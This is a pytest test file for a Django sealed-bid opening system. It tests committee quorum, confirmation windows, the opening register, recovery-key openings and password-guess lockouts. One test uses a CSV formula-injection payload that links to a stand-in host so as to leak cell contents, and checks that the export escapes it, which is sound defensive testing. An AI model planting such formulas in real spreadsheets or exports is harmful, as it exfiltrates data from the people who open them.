"""Nobody opens a call alone: a committee's quorum, each member confirming with their
own password, within a window after the deadline; each member counts once."""

from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from nacl.public import PrivateKey

from applications.choices import AuditAction
from applications.models import (
    AuditEvent,
    CallOpening,
    OpeningCommittee,
    OpeningConfirmation,
    OpeningDelay,
)
from applications.permissions import EvaluatorRules, _evaluator_rules, register_evaluator_rules
from applications.services.key_opening import member_share
from applications.services.opening import opening_confirm, recovery_share_give
from core.errors import NotAllowed, Refused
from tests.applications.deadline_support import close_at
from tests.factories import (
    PASSWORD,
    StaffFactory,
    UserFactory,
    in_group,
    make_call,
    second_factor_code,
    submit_bid,
)
from tests.sealing_support import PASSPHRASE, RECOVERY_PRIVATE, confirm


@pytest.fixture
def members(db):
    return [
        in_group(
            StaffFactory(email=f"member{n}@example.org"), "Editors", "wagtailadmin.access_admin"
        )
        for n in range(3)
    ]


@pytest.fixture
def call(site_root, members):
    call = make_call(site_root["calls"], committee=members)
    submit_bid(call, UserFactory())
    return close_at(call, timezone.now() - timedelta(minutes=5))


@pytest.fixture
def committee(call, members):
    return OpeningCommittee.objects.get(call=call)


def test_one_member_short_cannot_open_and_the_full_quorum_can(call, committee, members):
    assert confirm(call, members[0]) == (1, None)
    assert confirm(call, members[1]) == (2, None)
    assert not CallOpening.objects.filter(call=call).exists()

    count, opening = confirm(call, members[2])

    assert count == 3 and opening is not None
    assert opening.submissions_received == 1
    actions = list(AuditEvent.objects.filter(call=call).values_list("action", flat=True))
    assert actions.count(AuditAction.OPENING_CONFIRMED) == 3
    assert actions.count(AuditAction.CALL_OPENED) == 1


def test_the_same_member_confirming_twice_counts_once(call, committee, members):
    confirm(call, members[0])
    assert confirm(call, members[0]) == (1, None)
    assert confirm(call, members[1]) == (2, None)
    assert OpeningConfirmation.objects.filter(call=call).count() == 2
    assert not CallOpening.objects.filter(call=call).exists()


def test_a_wrong_password_records_nothing(call, committee, members):
    with pytest.raises(Refused, match="password or code is not right"):
        confirm(call, members[0], password="guess")
    assert not OpeningConfirmation.objects.exists()


def test_nobody_outside_the_committee_confirms_not_even_a_superuser(call, committee, superuser):
    with pytest.raises(NotAllowed, match="opening committee"):
        confirm(call, superuser)
    assert not OpeningConfirmation.objects.exists()


def test_a_call_without_a_committee_cannot_be_opened(call, superuser):
    with pytest.raises(NotAllowed):
        confirm(call, superuser)


def test_confirmations_are_taken_only_within_the_window_after_the_deadline(
    site_root, call, committee, members, settings
):
    early = close_at(call, timezone.now() + timedelta(seconds=30))
    with pytest.raises(NotAllowed, match="can be opened from"):
        confirm(early, members[0])
    late = close_at(
        call,
        timezone.now() - timedelta(hours=settings.OPENING_CONFIRMATION_WINDOW_HOURS, minutes=1),
    )
    with pytest.raises(NotAllowed, match="Confirmations were taken until"):
        confirm(late, members[0])
    assert not OpeningConfirmation.objects.exists()


def test_a_committee_too_small_or_wholly_on_the_panel_cannot_open(call, committee, members):
    committee.members.remove(members[2])
    with pytest.raises(Refused, match="at least 3 active members"):
        confirm(call, members[0])
    committee.members.add(members[2])

    saved = dict(_evaluator_rules)
    register_evaluator_rules(
        "everyone-on-panel",
        EvaluatorRules(
            leads=lambda u, c: False, reads=lambda u, s: False, on_panel=lambda u, c: True
        ),
    )
    try:
        with pytest.raises(Refused, match="must not sit on the evaluation panel"):
            confirm(call, members[0])
    finally:
        _evaluator_rules.clear()
        _evaluator_rules.update(saved)


def test_through_the_admin_a_member_confirms_and_a_superuser_alone_opens_nothing(
    client, call, committee, members, superuser
):
    url = reverse("zabuni_call_open", args=[call.pk])
    client.force_login(superuser)
    client.post(url, {"password": PASSWORD})
    assert not CallOpening.objects.filter(call=call).exists()

    for member in members:
        client.force_login(member)
        page = client.get(reverse("zabuni_call_submissions", args=[call.pk])).content.decode()
        assert "Confirm the opening" in page
        response = client.post(
            url,
            {"password": PASSWORD, "code": second_factor_code(member), "passphrase": PASSPHRASE},
            follow=True,
        )
        assert response.status_code == 200

    assert CallOpening.objects.filter(call=call).exists()
    assert "Call opened: 1 submissions unsealed." in response.content.decode()


# --- The opening register -------------------------------------------------------------


def test_the_opening_writes_a_register_once_and_mails_it_to_every_bidder(
    client, call, committee, members
):
    from applications.models import OpeningRegister, Submission
    from applications.models.audit import AppendOnlyError
    from applications.services.audit_chain import audit_chain_extend
    from notifications.models import OutboxMessage

    for member in members:
        audit_chain_extend()  # what each commit does (this test's transaction never commits)
        confirm(call, member)

    register = OpeningRegister.objects.get(call=call)
    submission = Submission.objects.get(call=call)
    (line,) = register.lines
    assert line["reference"] == submission.reference
    assert line["bidder"] == submission.applicant.email  # no profile: the address
    technical, financial = line["files"]
    assert technical["name"].endswith("Technical proposal.pdf") and not technical["sealed"]
    assert financial["sealed"] and financial["name"] == ""
    assert financial["sha256"] == submission.files.get(envelope="financial").sha256
    assert str(submission.offer_amount.normalize()) not in str(register.lines)
    assert [m["name"] for m in register.members] == [m.get_full_name() for m in members]
    assert register.audit_head.startswith("#")

    mail = OutboxMessage.objects.get(dedupe_key__startswith="register:")
    assert mail.to_email == submission.applicant.email
    assert submission.reference in mail.body_text
    assert line["bidder"] in mail.body_text
    assert register.digest in mail.body_text
    assert "Financial proposal" in mail.body_text and "sealed financial envelope" in mail.body_text

    register.members = []
    with pytest.raises(AppendOnlyError):
        register.save()

    client.force_login(members[0])
    csv = client.get(reverse("zabuni_call_register", args=[call.pk]) + "?format=csv")
    assert csv.status_code == 200
    assert submission.reference in csv.content.decode()
    assert "(sealed)" in csv.content.decode()


def test_a_grant_calls_register_mails_references_but_no_names(site_root, members):
    from notifications.models import OutboxMessage

    grant = make_call(site_root["calls"], kind="grant", committee=members)
    applicant = UserFactory(first_name="Named", last_name="Activist")
    submit_bid(grant, applicant)
    grant = close_at(grant, timezone.now() - timedelta(minutes=5))

    for member in members:
        confirm(grant, member)

    mail = OutboxMessage.objects.get(dedupe_key__startswith="register:")
    assert f"{grant.reference_code}-0001" in mail.body_text
    assert "Activist" not in mail.body_text and "Activist" not in mail.body_html


def test_register_csv_cells_never_start_like_a_formula():
    from types import SimpleNamespace

    from applications.services.registers import register_csv

    register = SimpleNamespace(
        lines=[
            {
                "reference": "DC-CFC-2026-001-0001",
                "bidder": '=HYPERLINK("https://x/?"&A2,"open")',
                "received_at": "2026-12-03T10:00:00+00:00",
                "status": "submitted",
                "files": [],
            }
        ]
    )
    assert "'=HYPERLINK" in register_csv(register)


# --- The committee in time: fixed at the deadline, changed only by a late opening ----


def _window_passed(call, settings):
    hours = settings.OPENING_CONFIRMATION_WINDOW_HOURS
    return close_at(call, timezone.now() - timedelta(hours=hours, minutes=1))


def test_the_committee_is_fixed_at_the_deadline_even_for_a_superuser(
    site_root, committee, members, superuser
):
    from applications.committee_admin import CommitteePermissionPolicy
    from applications.services.committee import committee_change_refusal

    policy = CommitteePermissionPolicy(OpeningCommittee)
    no_bids = OpeningCommittee.objects.get(call=make_call(site_root["calls"], committee=members))
    assert committee_change_refusal(no_bids.call_id) is None
    assert policy.user_has_permission_for_instance(superuser, "change", no_bids)
    # Once a bid is sealed to the committee's keys, the committee is fixed as the key is.
    before = close_at(committee.call, timezone.now() + timedelta(days=5))
    assert "already sealed" in committee_change_refusal(before.pk)
    assert not policy.user_has_permission_for_instance(superuser, "change", committee)

    close_at(before, timezone.now() - timedelta(minutes=5))

    assert "fixed at the deadline" in committee_change_refusal(before.pk)
    for action in ("change", "delete"):
        assert not policy.user_has_permission_for_instance(superuser, action, committee)
    client = Client()
    client.force_login(superuser)
    edit = reverse("wagtailsnippets_applications_openingcommittee:edit", args=[committee.pk])
    page = client.get(edit).content.decode()
    assert "fixed at the deadline" in page  # shown read-only, with the reason
    accomplice = StaffFactory()
    response = client.post(edit, {"call": committee.call_id, "members": [accomplice.pk]})
    assert response.status_code in (302, 403)
    assert set(committee.members.all()) == set(members)
    delete = reverse("wagtailsnippets_applications_openingcommittee:delete", args=[committee.pk])
    assert client.post(delete).status_code in (302, 403)
    assert OpeningCommittee.objects.filter(pk=committee.pk).exists()


def test_a_new_committee_cannot_be_set_up_after_the_deadline(call, superuser, members):
    OpeningCommittee.objects.filter(call=call).delete()  # as for a call published before keys
    client = Client()
    client.force_login(superuser)
    add = reverse("wagtailsnippets_applications_openingcommittee:add")

    response = client.post(add, {"call": call.pk, "members": [m.pk for m in members]})

    assert response.status_code == 200  # the form again, with the reason
    assert "fixed at the deadline" in response.content.decode()
    assert not OpeningCommittee.objects.filter(call=call).exists()


def test_a_late_opening_needs_the_window_closed_a_reason_and_the_password(
    call, committee, members, superuser, settings
):
    from applications.services.committee import opening_delay_record

    reason = "Two members were travelling without a connection for the whole window."
    with pytest.raises(NotAllowed, match="a late opening can be recorded after"):
        opening_delay_record(call=call, user=superuser, password=PASSWORD, reason=reason)
    late = _window_passed(call, settings)
    with pytest.raises(Refused, match="at least 20 characters"):
        opening_delay_record(call=late, user=superuser, password=PASSWORD, reason="Late.")
    with pytest.raises(Refused, match="password or code is not right"):
        opening_delay_record(call=late, user=superuser, password="guess", reason=reason)
    with pytest.raises(NotAllowed, match="Only staff"):
        opening_delay_record(call=late, user=UserFactory(), password=PASSWORD, reason=reason)
    assert not OpeningDelay.objects.exists()


def test_after_a_late_opening_the_committee_may_change_and_confirm_in_a_new_window(
    call, committee, members, superuser, settings
):
    from applications.services.committee import committee_change_refusal, opening_delay_record
    from notifications.models import OutboxMessage

    late = _window_passed(call, settings)
    confirm_early = OpeningConfirmation.objects.create(
        call=late,
        member=members[0],
        confirmed_at=timezone.now() - timedelta(hours=60),
        share=member_share(call=late, user=members[0], passphrase=PASSPHRASE),
    )
    with pytest.raises(NotAllowed, match="Confirmations were taken until"):
        confirm(late, members[1])

    delay = opening_delay_record(
        call=late,
        user=superuser,
        password=PASSWORD,
        reason="Member 2 left the organisation; member 3 was away for the whole window.",
    )

    assert AuditEvent.objects.filter(call=late, action=AuditAction.OPENING_DELAYED).count() == 1
    told = OutboxMessage.objects.filter(dedupe_key__startswith=f"opening-delay:{delay.pk}:")
    assert sorted(m.to_email for m in told) == sorted(m.email for m in members)
    assert committee_change_refusal(late.pk) is None
    # Member 2 left: a new member takes their place. Member 1's earlier confirmation
    # still counts; the departed member's would not.
    newcomer = in_group(StaffFactory(), "Editors", "wagtailadmin.access_admin")
    committee.members.set([members[0], members[2], newcomer])

    assert confirm(late, members[2]) == (2, None)
    assert "confirmed since" in committee_change_refusal(late.pk)
    # The newcomer holds no share of the call's key: the quorum confirms, but two shares
    # do not rebuild the key, and nothing opens until the recovery key stands in.
    assert confirm(late, newcomer) == (3, None)
    assert not CallOpening.objects.filter(call=late).exists()
    with pytest.raises(Refused, match="not the recovery key"):
        recovery_share_give(call=late, private=PrivateKey.generate())
    opening = recovery_share_give(call=late, private=RECOVERY_PRIVATE)
    assert opening is not None and opening.submissions_received == 1
    assert confirm_early.member_id == members[0].pk
    assert not OpeningConfirmation.objects.filter(call=late, share__isnull=False).exists()
    from applications.models import OpeningRegister

    shares = {
        m["name"]: m.get("key_share") for m in OpeningRegister.objects.get(call=late).members
    }
    assert shares[newcomer.get_full_name()] is None and shares["Recovery key"] is True
    assert shares[members[0].get_full_name()] and shares[members[2].get_full_name()]


def test_every_member_hears_of_each_confirmation(call, committee, members):
    from notifications.models import OutboxMessage

    confirm(call, members[0])

    told = OutboxMessage.objects.filter(dedupe_key__startswith="opening-confirmed:")
    assert sorted(m.to_email for m in told) == sorted(m.email for m in members)
    for mail in told:
        assert members[0].get_full_name() in mail.body_text
        assert "1 of the 3 confirmations" in mail.body_text
        assert "someone has used your account" in mail.body_text


def test_a_member_with_an_authenticator_confirms_only_with_a_current_code(
    call, committee, members, settings
):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    # django-otp slows retries after a wrong code; this test is about the code itself.
    settings.OTP_TOTP_THROTTLE_FACTOR = 0
    TOTPDevice.objects.create(user=members[0], name="default", confirmed=True)
    code = second_factor_code(members[0])
    wrong = "000000" if code != "000000" else "111111"

    for attempt in ("", wrong):
        with pytest.raises(Refused, match="password or code is not right"):
            opening_confirm(call=call, user=members[0], password=PASSWORD, code=attempt)
    assert not OpeningConfirmation.objects.exists()

    assert opening_confirm(
        call=call, user=members[0], password=PASSWORD, code=code, passphrase=PASSPHRASE
    ) == (1, None)


# --- The password and code at the opening count like a sign-in -------------------------

ONE_ANSWER = "That password or code is not right"


def _post_for_message(client, url, data):
    return client.post(url, data, follow=True).content.decode()


def test_guessing_a_members_password_at_the_opening_pauses_the_account(
    client, call, committee, members, settings
):
    """As an insider with a member's session would try it: each wrong password or code
    is answered alike and counted like a failed sign-in; at the limit the account is
    paused, the right password included, and nothing is recorded."""
    settings.OTP_TOTP_THROTTLE_FACTOR = 0  # this is about the lockout, not the code's wait
    member = members[0]
    client.force_login(member)
    url = reverse("zabuni_call_open", args=[call.pk])
    code = second_factor_code(member)
    wrong_code = "000000" if code != "000000" else "111111"

    wrong_password = _post_for_message(client, url, {"password": "guess-0", "code": code})
    wrong_code_page = _post_for_message(client, url, {"password": PASSWORD, "code": wrong_code})

    for page in (wrong_password, wrong_code_page):
        assert ONE_ANSWER in page
        assert "not your password" not in page and "not a current code" not in page
    answers = [
        client.post(url, {"password": f"guess-{n}", "code": second_factor_code(member)})
        for n in range(1, 11)
    ]
    # Two failures above, then these: the limit-th failure pauses the account.
    assert answers[settings.AXES_FAILURE_LIMIT - 4].status_code == 302
    assert answers[settings.AXES_FAILURE_LIMIT - 3].status_code == 429
    right = client.post(url, {"password": PASSWORD, "code": second_factor_code(member)})

    assert right.status_code == 429
    assert "Sign-in paused" in right.content.decode()
    assert not OpeningConfirmation.objects.exists()
    signing_in = Client().post(
        reverse("accounts:login"),
        {
            "sign_in_view-current_step": "auth",
            "auth-username": member.email,
            "auth-password": PASSWORD,
        },
    )
    assert signing_in.status_code == 429


def test_guessing_the_password_for_a_late_opening_pauses_the_account(
    client, call, committee, superuser, settings
):
    late = _window_passed(call, settings)
    client.force_login(superuser)
    url = reverse("zabuni_call_opening_delay", args=[late.pk])
    reason = "Two members were travelling without a connection for the whole window."

    wrong = _post_for_message(client, url, {"password": "guess", "reason": reason})
    assert ONE_ANSWER in wrong and "not your password" not in wrong
    for n in range(settings.AXES_FAILURE_LIMIT - 1):
        client.post(url, {"password": f"guess-{n}", "reason": reason})
    right = client.post(url, {"password": PASSWORD, "reason": reason})

    assert right.status_code == 429
    assert not OpeningDelay.objects.exists()
